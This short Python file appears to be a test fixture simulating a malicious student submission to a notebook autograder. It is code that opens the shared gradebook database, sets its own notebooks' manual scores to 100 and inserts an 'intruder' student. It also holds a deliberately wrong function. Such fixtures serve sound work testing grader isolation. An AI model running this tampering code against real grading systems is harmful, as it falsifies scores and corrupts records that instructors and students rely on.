import sqlite3
from pathlib import Path

root = Path.cwd().parents[2]  # autograded/<student>/<assignment> is where it runs
OWN = """SELECT n.id FROM submitted_notebook n
JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?"""
try:
    db = sqlite3.connect(root / "gradebook" / "gradebook.db", timeout=30)
    with db:
        db.execute(
            f"UPDATE grade SET manual_score = 100 WHERE notebook_id IN ({OWN})", ("{{ATTACK}}",)
        )
        db.execute("INSERT INTO student (id) VALUES ('intruder')")
except sqlite3.Error as error:
    print("no gradebook:", error)


def count_positive(xs):
    return len(xs) - 1  # wrong on purpose
